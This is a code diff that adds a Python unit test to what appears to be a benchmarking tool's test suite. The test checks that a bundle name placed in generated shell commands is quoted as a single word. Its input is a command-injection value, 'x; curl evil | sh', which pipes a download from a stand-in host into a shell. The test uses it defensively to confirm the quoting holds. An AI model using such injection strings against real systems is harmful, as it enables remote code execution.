@@ -150,6 +150,13 @@ def test_the_commands_to_repeat_it_name_the_mode_and_other_threads():
     )
 
 
+def test_a_bundles_name_in_a_command_is_one_word_of_the_shell():
+    manifest = {**records.manifest(), "name": "x; curl evil | sh"}
+    first, second = repeat_commands(records.bench(), manifest).splitlines()
+    assert first == "edgekit bench 'x; curl evil | sh' --quick"
+    assert second == "cd 'x; curl evil | sh' && python run.py --bench --quick"
+
+
 def test_facts_that_the_system_does_not_tell_are_left_out():
     rows = dict(facts_rows(cool(records.bench(machine=CLOUD))))
     assert "board" not in rows
